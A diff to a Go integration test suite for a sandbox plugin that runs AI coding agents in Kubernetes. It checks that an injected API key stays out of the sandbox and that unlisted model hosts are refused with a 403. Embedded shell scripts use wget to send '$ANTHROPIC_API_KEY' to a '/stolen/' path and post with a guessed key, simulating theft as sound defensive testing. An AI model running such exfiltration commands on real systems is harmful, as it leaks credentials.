@@ -365,8 +365,10 @@ func TestAgentsWholeFlow(t *testing.T) {
 func (s *suite) injectedKeyStaysOut(ctx context.Context, t *testing.T, rig *agentRig) {
 	c, cancel := context.WithTimeout(ctx, 2*podRunningTimeout)
 	defer cancel()
-	// No Content-Type header: busybox 1.35's wget then sends GET, body
-	// and all; the mock reads JSON whatever the type says.
+	// The route's calls go to the proxy's address itself (-Y off, as
+	// NO_PROXY says; busybox's wget reads no NO_PROXY): through a proxy,
+	// busybox 1.35's wget sends --post-data with GET. The mock reads JSON
+	// whatever the Content-Type says.
 	const body = `{"model":"%s","max_tokens":8,"messages":[{"role":"user","content":"hi"}]}`
 	r := s.pluginRunEnv(c, []string{"ANTHROPIC_API_KEY=" + rig.realKey}, append([]string{"create", "rn-keyholder", "-n", agentsNS,
 		"--image", SandboxImage, "--cpu", "100m", "--memory", "64Mi",
@@ -382,7 +384,7 @@ func (s *suite) injectedKeyStaysOut(ctx context.Context, t *testing.T, rig *agen
 	})
 	script := `env | grep '^ANTHROPIC_' | sort
 wget -q -O- "http://` + mirrorHost + `:` + mirrorPort + `/stolen/$ANTHROPIC_API_KEY" 2>&1; echo
-wget -q -O- --header "X-Api-Key: stolen-by-the-sandbox" --post-data '` + fmt.Sprintf(body, "keyholder") + `' "$ANTHROPIC_BASE_URL/v1/messages"`
+wget -q -Y off -O- --header "X-Api-Key: stolen-by-the-sandbox" --post-data '` + fmt.Sprintf(body, "keyholder") + `' "$ANTHROPIC_BASE_URL/v1/messages"`
 	held := s.pluginRun(c, "", "exec", "rn-keyholder", "-n", agentsNS, "--", "sh", "-c", script)
 	t.Logf("the key holder:\n%s", held.stdout)
 	if strings.Contains(held.stdout+held.stderr, rig.realKey) {
@@ -403,7 +405,7 @@ wget -q -O- --header "X-Api-Key: stolen-by-the-sandbox" --post-data '` + fmt.Spr
 	}
 
 	// A second sandbox, fenced the same way, without the grant.
-	thief := `wget -q -O- --header "X-Api-Key: guessed" --post-data '` + fmt.Sprintf(body, "thief") + `' "` + rig.injectedBaseURL() + `/v1/messages" 2>&1; echo "wget exit $?"`
+	thief := `wget -q -Y off -O- --header "X-Api-Key: guessed" --post-data '` + fmt.Sprintf(body, "thief") + `' "` + rig.injectedBaseURL() + `/v1/messages" 2>&1; echo "wget exit $?"`
 	r = s.pluginRun(c, "", append(append([]string{"run", "rn-thief", "-n", agentsNS, "--image", SandboxImage, "--cpu", "100m", "--memory", "64Mi",
 		"--allow-host", mirrorHost + ":" + mirrorPort}, rig.proxyEnv()...), "--", "sh", "-c", thief)...)
 	t.Logf("the second sandbox: %s", r)
@@ -608,10 +610,15 @@ func (s *suite) codexWholeFlow(ctx context.Context, t *testing.T, rig *agentRig,
 	args := append(append([]string{"run", "rn-codex", "-n", agentsNS, "--agent", "codex",
 		"--allow-host", mirrorHost + ":" + mirrorPort, "--allow-host", modelHost + ":" + modelPort,
 		"--env", "NPM_CONFIG_REGISTRY=" + rig.registry}, append(agentSize, rig.proxyEnv()...)...),
-		"--copy-in", repo+":"+flowDir, "--copy-out", flowDir+":"+out, "-w", flowDir,
+		"--copy-in", repo+":"+flowDir, "--copy-out", flowDir+":"+out, "-w", flowDir, "--keep",
 		"--", "codex", "exec", "--skip-git-repo-check", "--dangerously-bypass-approvals-and-sandbox")
 	args = append(append(args, agentmock.CodexFlags("http://"+modelHost+":"+modelPort+"/v1")...), prompt)
 	r := s.pluginRunEnv(c, []string{"OPENAI_API_KEY=" + rig.openAIKey}, args...)
+	t.Cleanup(func() {
+		c, cancel := context.WithTimeout(context.Background(), deleteTimeout)
+		defer cancel()
+		_ = s.pluginRun(c, "", "delete", "rn-codex", "-n", agentsNS, "--ignore-not-found")
+	})
 	if r.code != 0 {
 		t.Fatalf("run --agent codex -- codex exec: %s\nmodel log:\n%s\nregistry log:\n%s\n%s", r, rig.modelLog(), rig.mirrorLog(), s.node.Diagnostics())
 	}
@@ -627,6 +634,23 @@ func (s *suite) codexWholeFlow(ctx context.Context, t *testing.T, rig *agentRig,
 	}
 	if l := rig.mirrorLog(); !strings.Contains(l, "/-/tarballs/openai-codex-"+codexVersion+"-linux-x64.tgz → 200") {
 		t.Errorf("the registry did not serve Codex's native binary:\n%s", l)
+	}
+
+	// A model host the fence does not name: the proxy refuses it, and the
+	// agent fails at once saying so, rather than hang.
+	c2, cancel2 := context.WithTimeout(ctx, 2*podRunningTimeout)
+	defer cancel2()
+	const unfenced = "model.not-allowed.test"
+	blocked := s.pluginRun(c2, "", append(append([]string{"exec", "rn-codex", "-n", agentsNS, "-w", flowDir, "--",
+		"codex", "exec", "--skip-git-repo-check", "--dangerously-bypass-approvals-and-sandbox"},
+		agentmock.CodexFlags("http://"+unfenced+":"+modelPort+"/v1")...), prompt)...)
+	t.Logf("codex against a host the fence does not name: %s", blocked)
+	if blocked.code == 0 || !strings.Contains(blocked.stdout+blocked.stderr, "403") {
+		t.Errorf("codex against %s should fail with the proxy's 403: %s", unfenced, blocked)
+	}
+	record("agents: codex exec, its model's host not allowed (→ failure)", blocked.took)
+	if d := s.pluginRun(ctx, "", "delete", "rn-codex", "-n", agentsNS); d.code != 0 {
+		t.Errorf("delete: %s", d)
 	}
 	s.sandboxGoneIn(ctx, t, agentsNS, "rn-codex")
 }
